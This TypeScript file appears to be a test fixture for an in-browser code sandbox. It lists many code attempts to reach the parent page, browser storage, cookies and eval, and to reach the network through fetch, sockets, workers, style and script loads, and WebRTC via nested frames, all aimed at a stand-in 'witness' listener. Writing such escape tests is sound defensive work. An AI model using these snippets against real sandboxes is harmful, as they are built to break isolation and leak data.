/** Where a program tries to get: a listener that must hear of nothing, and the site that it was written on. */
export type Targets = {
  /** Host and port that listens for connections and datagrams, such as `127.0.0.1:4000`. */
  witness: string;
  /** Origin of the site. */
  site: string;
};

/** Code that is the body of an async function. Where `throws`, it must not get to its end. */
export type Attempt = { name: string; code: string; throws?: true };

const settles = (code: string) => `await new Promise((done, failed) => { ${code} });`;

/** Ways to the page, to its storage and to what it shows. */
export const onPage: Attempt[] = [
  ...['parent', 'top', 'opener', 'frames.parent', 'window.top.frames[0].parent', 'document.defaultView.parent'].flatMap(
    (way) => [
      { name: `document of ${way}`, code: `${way}.document.title = 'taken';`, throws: true as const },
      { name: `storage of ${way}`, code: `${way}.localStorage.setItem('taken', '1');`, throws: true as const },
      { name: `address of ${way}`, code: `void ${way}.location.href.length;`, throws: true as const },
      { name: `eval of ${way}`, code: `${way}.eval('1');`, throws: true as const },
    ],
  ),
  { name: 'element of the frame', code: 'void window.frameElement.id;', throws: true },
  { name: 'navigation of top', code: "top.location.href = 'https://example.org/';" },
  { name: 'replacement of top', code: "top.location.replace('javascript:document.title=1');" },
  { name: 'history', code: "history.pushState({}, '', '/taken');" },
  { name: 'back', code: 'top.history.back();', throws: true },
  { name: 'title of the tab', code: "document.title = 'taken';" },
  { name: 'window', code: "if (open('/docs/intro')) return; throw 0;", throws: true },
  { name: 'named window', code: "open('javascript:1', '_top'); open('about:blank', '_parent');" },
  { name: 'local storage', code: 'localStorage.taken = 1;', throws: true },
  { name: 'session storage', code: 'sessionStorage.taken = 1;', throws: true },
  { name: 'cookie', code: "document.cookie = 'taken=1';", throws: true },
  { name: 'cookie store', code: "await cookieStore.set('taken', '1');", throws: true },
  {
    name: 'database',
    code: settles("const r = indexedDB.open('taken'); r.onsuccess = done; r.onerror = failed;"),
    throws: true,
  },
  { name: 'caches', code: "await caches.open('taken');", throws: true },
  { name: 'files', code: 'await navigator.storage.getDirectory();', throws: true },
  { name: 'locks', code: "await navigator.locks.request('taken', () => {});", throws: true },
  { name: 'service worker', code: "await navigator.serviceWorker.register('/sw.js');", throws: true },
  { name: 'channel', code: "new BroadcastChannel('site').postMessage('taken');" },
  { name: 'full screen', code: 'await document.documentElement.requestFullscreen();', throws: true },
  { name: 'clipboard', code: "await navigator.clipboard.writeText('taken');", throws: true },
  { name: 'print', code: 'print();' },
  { name: 'domain', code: "document.domain = 'localhost';", throws: true },
  { name: 'eval', code: "(0, eval)('1');", throws: true },
  { name: 'function from text', code: "(async () => {}).constructor('return 1')();", throws: true },
  { name: 'timer from text', code: 'setTimeout(\'parent.postMessage(1, "*")\');' },
  {
    name: 'download',
    code: "const a = document.createElement('a'); a.href = 'data:,x'; a.download = 'taken'; a.click();",
  },
  {
    name: 'link to top',
    code: "const a = document.createElement('a'); a.href = '/taken'; a.target = '_top'; a.click();",
  },
  {
    name: 'handler as text',
    code: "document.body.insertAdjacentHTML('beforeend', '<img src=x onerror=\"parent.postMessage(1)\"><a id=j href=\"javascript:top.x=1\">');document.getElementById('j').click();",
  },
];

/** Ways to the network. `ADDRESS` and `WITNESS` are filled in. */
const waysOut: Attempt[] = [
  { name: 'fetch', code: "await fetch('ADDRESS', { mode: 'no-cors' });", throws: true },
  { name: 'late fetch', code: "void fetchLater('ADDRESS', { activateAfter: 0 });" },
  {
    name: 'request',
    code: settles(
      "const r = new XMLHttpRequest(); r.open('POST', 'ADDRESS'); r.onload = done; r.onerror = failed; r.send('x');",
    ),
    throws: true,
  },
  {
    name: 'request that waits',
    code: "const r = new XMLHttpRequest(); r.open('GET', 'ADDRESS', false); r.send();",
    throws: true,
  },
  {
    name: 'socket',
    code: settles("const s = new WebSocket('ws://WITNESS/a'); s.onopen = done; s.onerror = failed;"),
    throws: true,
  },
  { name: 'transport', code: "await new WebTransport('https://WITNESS/').ready;", throws: true },
  {
    name: 'events',
    code: settles("const s = new EventSource('ADDRESS'); s.onopen = done; s.onerror = failed;"),
    throws: true,
  },
  { name: 'beacon', code: "navigator.sendBeacon('ADDRESS', 'x');" },
  {
    name: 'picture',
    code: settles("const i = new Image(); i.onload = done; i.onerror = failed; i.src = 'ADDRESS';"),
    throws: true,
  },
  { name: 'background', code: "document.body.style.background = 'url(ADDRESS)';" },
  {
    name: 'stylesheet',
    code: "const s = document.createElement('style'); s.textContent = '@import \"ADDRESS\"; @font-face { font-family: f; src: url(ADDRESS) } body { font-family: f; cursor: url(ADDRESS), auto } body::before { content: url(ADDRESS) }'; document.head.append(s);",
  },
  { name: 'font', code: "await new FontFace('f', 'url(ADDRESS)').load();", throws: true },
  {
    name: 'script',
    code: settles(
      "const s = document.createElement('script'); s.src = 'ADDRESS'; s.onload = done; s.onerror = failed; document.head.append(s);",
    ),
    throws: true,
  },
  {
    name: 'module',
    code: "const s = document.createElement('script'); s.type = 'module'; s.src = URL.createObjectURL(new Blob([\"import 'ADDRESS'\"], { type: 'text/javascript' })); document.head.append(s);",
  },
  {
    name: 'import map',
    code: 'const s = document.createElement(\'script\'); s.type = \'importmap\'; s.textContent = \'{"imports":{"react":"ADDRESS"}}\'; document.head.append(s);',
  },
  {
    name: 'speculation',
    code: 'const s = document.createElement(\'script\'); s.type = \'speculationrules\'; s.textContent = \'{"prefetch":[{"urls":["ADDRESS"]}],"prerender":[{"urls":["ADDRESS"]}]}\'; document.head.append(s);',
  },
  ...[
    'stylesheet',
    'preload',
    'modulepreload',
    'prefetch',
    'preconnect',
    'dns-prefetch',
    'prerender',
    'icon',
    'manifest',
  ].map((rel) => ({
    name: `link ${rel}`,
    code: `const l = document.createElement('link'); l.rel = '${rel}'; l.as = 'script'; l.href = 'ADDRESS'; document.head.append(l);`,
  })),
  {
    name: 'base',
    code: "const b = document.createElement('base'); b.href = 'ADDRESS'; document.head.prepend(b); const i = new Image(); i.src = 'a.png';",
  },
  {
    name: 'refresh',
    code: "const m = document.createElement('meta'); m.httpEquiv = 'refresh'; m.content = '0;url=ADDRESS'; document.head.append(m);",
  },
  {
    name: 'policy of its own',
    code: "const m = document.createElement('meta'); m.httpEquiv = 'content-security-policy'; m.content = \"default-src * 'unsafe-inline' 'unsafe-eval'\"; document.head.append(m); await fetch('ADDRESS', { mode: 'no-cors' });",
    throws: true,
  },
  ...[
    'iframe src',
    'embed src',
    'object data',
    'video src',
    'audio src',
    'track src',
    'source src',
    'frame src',
    'portal src',
    'fencedframe src',
    'input src',
    'body background',
  ].map((way) => {
    const [tag, attribute] = way.split(' ');
    return {
      name: way,
      code: `const e = document.createElement('${tag}'); e.type = '${tag === 'input' ? 'image' : ''}'; e.setAttribute('${attribute}', 'ADDRESS'); document.body.append(e); e.load?.();`,
    };
  }),
  {
    name: 'form',
    code: "const f = document.createElement('form'); f.action = 'ADDRESS'; f.method = 'post'; document.body.append(f); f.submit();",
  },
  {
    name: 'ping',
    code: "const a = document.createElement('a'); a.href = '#'; a.ping = 'ADDRESS'; document.body.append(a); a.click();",
  },
  {
    name: 'vector picture',
    code: 'document.body.insertAdjacentHTML(\'beforeend\', \'<svg><image href="ADDRESS"/><use href="ADDRESS#a"/><filter id=f><feImage href="ADDRESS"/></filter><rect filter="url(#f)" width=9 height=9 fill="url(ADDRESS#p)"/></svg>\');',
  },
  { name: 'import', code: "const from = 'ADDRESS'; await import(from);" },
  { name: 'import of data', code: "const from = 'data:text/javascript,'; await import(from);" },
  {
    name: 'worker',
    code: settles(
      "const w = new Worker(URL.createObjectURL(new Blob([\"fetch('ADDRESS',{mode:'no-cors'}).then(() => postMessage(1), () => postMessage(0)); try { importScripts('ADDRESS'); postMessage(1) } catch {} try { new WebSocket('ws://WITNESS/a') } catch {} try { new WebTransport('https://WITNESS/') } catch {}\"], { type: 'text/javascript' }))); w.onmessage = ({ data }) => data ? done() : failed(); w.onerror = failed;",
    ),
    throws: true,
  },
  {
    name: 'worker from data',
    code: settles(
      "const w = new Worker('data:text/javascript,postMessage(1)'); w.onmessage = done; w.onerror = failed;",
    ),
    throws: true,
  },
  { name: 'shared worker', code: 'new SharedWorker(URL.createObjectURL(new Blob(["fetch(\'ADDRESS\')"])));' },
  { name: 'worklet', code: "await CSS.paintWorklet.addModule('ADDRESS');", throws: true },
  { name: 'sound worklet', code: "await new AudioContext().audioWorklet.addModule('ADDRESS');", throws: true },
  {
    name: 'payment',
    code: "await new PaymentRequest([{ supportedMethods: 'ADDRESS' }], { total: { label: 'a', amount: { currency: 'USD', value: '1' } } }).show();",
    throws: true,
  },
  {
    name: 'credential',
    code: "await navigator.credentials.get({ identity: { providers: [{ configURL: 'ADDRESS', clientId: 'a' }] } });",
    throws: true,
  },
  { name: 'presentation', code: "await new PresentationRequest('ADDRESS').start();", throws: true },
  { name: 'navigation', code: "location.href = 'ADDRESS';" },
  {
    name: 'navigation by a link',
    code: "const a = document.createElement('a'); a.href = 'ADDRESS'; document.body.append(a); a.click();",
  },
  { name: 'shared storage', code: "await sharedStorage.worklet.addModule('ADDRESS');", throws: true },
];

const call = (maker: string) =>
  `const c = new ${maker}({ iceServers: [{ urls: 'stun:WITNESS' }] }); c.createDataChannel('a'); await c.setLocalDescription(await c.createOffer());`;
const nested = (html: string, more = '') =>
  `const f = document.createElement('iframe'); ${html} document.body.append(f); ${more}`;

/** WebRTC asks no policy: a browser that has it gives it to every document that it makes. */
const calls: Attempt[] = [
  ...[
    'RTCPeerConnection',
    'webkitRTCPeerConnection',
    'window.RTCPeerConnection',
    'globalThis["RTC" + "PeerConnection"]',
    'Window.prototype.RTCPeerConnection',
    'Object.getPrototypeOf(window).RTCPeerConnection',
  ].map((way) => ({ name: `call by ${way}`, code: call(way), throws: true as const })),
  ...[
    '',
    "f.src = 'about:blank';",
    "f.src = 'about:srcdoc'; f.srcdoc = '<p>';",
    "f.src = 'javascript:1';",
    "f.sandbox = 'allow-scripts allow-same-origin';",
    "f.src = 'blob:null/1';",
    "f.allow = '*';",
  ].map((how) => ({
    name: `call by a nested frame ${how}`,
    code: nested(how, call('f.contentWindow.RTCPeerConnection')),
    throws: true as const,
  })),
  { name: 'call by frames[0]', code: nested('', call('frames[0].RTCPeerConnection')), throws: true },
  {
    name: 'call by an object',
    code: `const o = document.createElement('object'); o.data = 'about:blank'; document.body.append(o); ${call('o.contentWindow.RTCPeerConnection')}`,
    throws: true,
  },
  {
    name: 'call by a script in a nested document',
    code: nested(
      "const s = URL.createObjectURL(new Blob([\"new RTCPeerConnection({iceServers:[{urls:'stun:WITNESS'}]}).createDataChannel('a');\"], { type: 'text/javascript' })); f.srcdoc = '<script src=\"' + s + '\"></' + 'script><script>new RTCPeerConnection</' + 'script>';",
    ),
  },
  {
    name: "call by the frame's own script in a nested document",
    code: nested(
      'f.srcdoc = document.documentElement.outerHTML;',
      "await new Promise((done) => { f.onload = done; }); const { port1, port2 } = new MessageChannel(); f.contentWindow.postMessage('start', '*', [port2]); port1.postMessage({ kind: 'run', file: 'a.ts', code: \"const c = new RTCPeerConnection({iceServers:[{urls:'stun:WITNESS'}]}); c.createDataChannel('a'); c.createOffer().then((o) => c.setLocalDescription(o));\", beside: {} });",
    ),
  },
  {
    name: 'frame from a blob',
    code: nested(
      "f.src = URL.createObjectURL(new Blob(['<script>new RTCPeerConnection</script>'], { type: 'text/html' }));",
    ),
  },
  { name: 'frame from data', code: nested('f.src = \'data:text/html,<script>top.location="ADDRESS"</script>\';') },
  { name: 'frame of the site', code: nested("f.src = '/docs/intro';") },
  { name: 'own document again', code: nested('f.src = location.href;') },
];

/** Every way to the network, with the listener's address or the site's own in it. */
export function outOf({ witness, site }: Targets): Attempt[] {
  const fill = (address: string) => (attempt: Attempt) => ({
    ...attempt,
    code: attempt.code.replaceAll('ADDRESS', address).replaceAll('WITNESS', witness),
  });
  const leaves = /^(navigation|refresh)/;
  return [
    ...[...waysOut, ...calls].map(fill(`http://${witness}/hostile`)),
    // Its own site is the one place that a frame may be led to, by its page's policy; the page ends it there.
    ...waysOut.filter(({ name }) => !leaves.test(name)).map(fill(`${site}/hostile`)),
  ];
}
